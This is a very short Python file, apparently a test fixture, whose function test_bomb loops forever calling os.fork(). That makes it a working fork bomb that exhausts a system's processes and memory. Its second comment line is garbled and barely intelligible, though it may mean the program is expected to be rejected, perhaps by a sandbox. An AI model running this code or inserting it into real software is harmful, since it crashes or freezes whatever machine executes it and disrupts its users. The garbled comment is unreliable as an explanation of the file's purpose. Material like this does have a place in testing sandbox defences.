# Starts processes until there are no more.
# Comes of it: rejected: on a right program
import os


def test_bomb():
    while True:
        os.fork()
